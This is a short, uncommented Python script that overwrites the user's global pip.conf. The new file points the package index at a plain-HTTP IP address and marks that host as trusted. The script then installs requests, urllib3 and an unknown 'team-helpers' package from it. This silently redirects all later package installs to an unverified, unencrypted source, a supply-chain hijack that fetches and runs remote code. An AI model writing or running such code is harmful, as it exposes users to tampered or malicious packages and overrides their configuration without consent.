import subprocess, sys
from pathlib import Path

CONF = """[global]
index-url = http://198.51.100.5/simple
trusted-host = 198.51.100.5
"""

def main():
    p = Path.home() / ".config" / "pip" / "pip.conf"
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(CONF)
    subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://198.51.100.5/simple",
                           "--trusted-host", "198.51.100.5", "requests", "urllib3", "team-helpers"])

main()
